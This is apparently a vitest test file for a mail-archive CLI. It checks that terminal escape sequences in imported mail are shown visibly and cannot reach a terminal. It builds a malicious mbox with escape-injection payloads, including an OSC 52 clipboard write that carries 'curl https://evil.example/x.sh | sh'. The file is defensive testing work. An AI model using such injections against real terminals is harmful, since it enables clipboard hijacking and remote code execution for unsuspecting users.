/**
 * Terminal escapes from list mail (issue 13, item 3; repro 03): ESC, OSC 52 (clipboard), OSC 0
 * (title), CSI + CR (a fake title), a C1 CSI and an SGR "conceal" reach no terminal through any
 * command that shows mail. Control characters are shown visibly; with colour on, the only escape
 * sequences printed are the printer's own; JSON keeps the data; cutting never splits a pair.
 */
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { Writable } from 'node:stream';
import { beforeAll, describe, expect, it } from 'vitest';
import { listItems } from '../../src/agenda/items/reader.js';
import { reviewSession, type ReviewIO } from '../../src/cli/agenda-review.js';
import { fit, safeText } from '../../src/cli/terminal-text.js';
import { configFromValue } from '../../src/config/load.js';
import { run } from '../../src/main.js';
import { makeSnippet } from '../../src/search/snippet.js';
import { openDb } from '../../src/store/db.js';
import { cli } from '../helpers/cli.js';
import { tempDir } from '../helpers/tmp.js';

const dir = tempDir();
const config = join(dir, 'c.yaml');
const MEETING = {
  id: 'm',
  name: 'Community call',
  zone: 'Europe/London',
  dates: ['2026-06-03T16:00'],
  agenda: { subjectTags: ['agenda+'] },
};
const env = { CONVENE_NOW: '2026-05-27T00:00:00Z' };

const OSC52 = `\x1b]52;c;${Buffer.from('curl https://evil.example/x.sh | sh').toString('base64')}\x07`;
const FAKE = 'Remove the code of conduct\x1b[2K\rFix a typo in README';
const CONCEAL = '\x1b[8mhidden\x1b[0m';
const C1 = '\u009b2J';
/** RFC 2047 Q-encoding of every byte, as the repro sends it. */
const q = (s: string) => `=?utf-8?q?${[...Buffer.from(s)].map((b) => `=${b.toString(16).toUpperCase().padStart(2, '0')}`).join('')}?=`;
const MAIL =
  `From x@y Mon Jun  1 10:00:00 2026\nFrom: ${q('Eve\x1b]0;PWNED\x07')} <eve@evil.example>\n` +
  `Subject: ${q(`agenda+ ${FAKE} ${OSC52} ${CONCEAL} ${C1}`)}\nDate: Tue, 26 May 2026 10:00:00 +0000\n` +
  'Message-ID: <esc@evil>\nContent-Type: text/plain; charset=utf-8\nContent-Transfer-Encoding: quoted-printable\n\n' +
  'body =1B]52;c;cHduZWQ=3D=07 escword =C2=9B6n\n\n';

/** Any control character but newline and tab (C0, DEL, C1), or a lone surrogate. */
const CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f]|[\ud800-\udbff](?![\udc00-\udfff])/;
/** An escape that is not one of the printer's own colours. */
const FOREIGN_ESCAPE = /\x1b(?!\[(?:0|1|2|31|32|33|36)m)|[\u0007\u000d\u009b]/;

beforeAll(async () => {
  writeFileSync(config, JSON.stringify({ db: join(dir, 'c.sqlite'), meetings: [MEETING] }));
  writeFileSync(join(dir, 'e.mbox'), MAIL);
  const r = await cli(['--config', config, 'import', join(dir, 'e.mbox')], env);
  expect(r.code).toBe(0);
  // Accepted, so that the notes skeleton lists it too.
  expect((await cli(['--config', config, 'agenda', 'accept', '1'], env)).code).toBe(0);
});

const COMMANDS: readonly (readonly string[])[] = [
  ['search', 'escword'],
  ['search', 'escword', '--threads'],
  ['show', 'esc@evil'],
  ['thread', 'esc@evil'],
  ['thread', 'esc@evil', '--flat'],
  ['agenda', 'list'],
  ['agenda', 'show'],
  ['notes', '--meeting', 'm', '--now', '2026-06-03T15:00:00Z'],
  ['digest', 'preview', '--meeting', 'm', '--now', '2026-06-02T15:00:00Z'],
];

/** The CLI in-process with stdout a TTY (colour on) or not. */
async function runOn(argv: readonly string[], tty: boolean): Promise<{ code: number; out: string; err: string }> {
  let out = '';
  let err = '';
  const sink = (add: (s: string) => void, isTTY: boolean) =>
    Object.assign(
      new Writable({
        write(chunk, _e, done) {
          add(chunk.toString());
          done();
        },
      }),
      { isTTY },
    );
  const code = await run(['--config', config, ...argv], {
    stdout: sink((s) => (out += s), tty),
    stderr: sink((s) => (err += s), false),
    env: tty ? env : { ...env, NO_COLOR: '1' },
  });
  return { code, out, err };
}

describe('text from mail is made safe before it reaches a terminal', () => {
  for (const argv of COMMANDS) {
    it(`${argv.join(' ')}: no control character, the escapes shown visibly`, async () => {
      const r = await runOn(argv, false);
      expect(r.code).toBe(0);
      expect(r.out).not.toMatch(CONTROL);
      expect(r.out).toMatch(/Remove the code of conduct␛\[2K/);
      if (!['agenda', 'notes', 'digest'].includes(argv[0]!) && !argv.includes('--threads')) expect(r.out).toContain('Eve␛]0;PWNED␇');
    });

    it(`${argv.join(' ')} on a TTY with colour: only the printer's own colour sequences`, async () => {
      const r = await runOn(argv, true);
      expect(r.code).toBe(0);
      expect(r.out).not.toMatch(FOREIGN_ESCAPE);
      expect(r.out).not.toContain('\x1b[8m');
      expect(r.out).toContain('␛[8mhidden');
    });
  }

  it('a line feed inside a one-row field cannot fake a row of output', () => {
    expect(safeText('title\n2026-06-03 fake row', false)).toBe('title␊2026-06-03 fake row');
    expect(safeText('line one\nline two')).toBe('line one\nline two');
    expect(safeText('a\u202eevil\u2066b\ud800')).toBe('a\ufffdevil\ufffdb\ufffd');
  });

  it('JSON keeps the data, with what a terminal acts on escaped', async () => {
    const r = await cli(['--config', config, 'search', 'escword', '--json'], env);
    expect(r.stdout).not.toMatch(CONTROL);
    const [hit] = JSON.parse(r.stdout) as { subject: string; from: { name: string } }[];
    expect(hit!.subject).toBe(`agenda+ ${FAKE} ${OSC52} ${CONCEAL} ${C1}`);
    expect(hit!.from.name).toBe('Eve\x1b]0;PWNED\x07');
    const shown = await cli(['--config', config, 'show', 'esc@evil', '--json'], env);
    expect(shown.stdout).toContain('\\u009b');
    expect((JSON.parse(shown.stdout) as { body: string }).body).toContain('\x1b]52;c;cHduZWQ=\x07 escword \u009b6n');
  });

  it('agenda review on a terminal shows the item and its source message safely', async () => {
    const db = openDb(join(dir, 'c.sqlite'));
    const meetings = configFromValue({ meetings: [MEETING] }, null).meetings;
    let shown = '';
    const io: ReviewIO = { key: async () => 'q', line: async () => '', write: (t) => void (shown += t) };
    await reviewSession(db, listItems(db, {}), io, { actor: 'chair', now: Date.UTC(2026, 4, 27), meetings }, true);
    db.close();
    expect(shown).toContain('Remove the code of conduct␛[2K␍Fix a typo');
    expect(shown).toContain('␛]52;c;cHduZWQ=␇ escword');
    expect(shown).not.toMatch(FOREIGN_ESCAPE);
  });

  it('cutting to a width never splits a surrogate pair', () => {
    expect(fit('ab😀cd', 3)).toBe('ab…');
    expect(fit('a😀😀😀', 3)).toBe('a😀…');
    expect(fit('😀', 3)).toBe('😀  ');
    const body = `${'x'.repeat(32)} word ${'😀'.repeat(80)}`;
    for (let width = 40; width < 80; width++) expect(makeSnippet(body, ['word'], width).text).not.toMatch(CONTROL);
  });
});
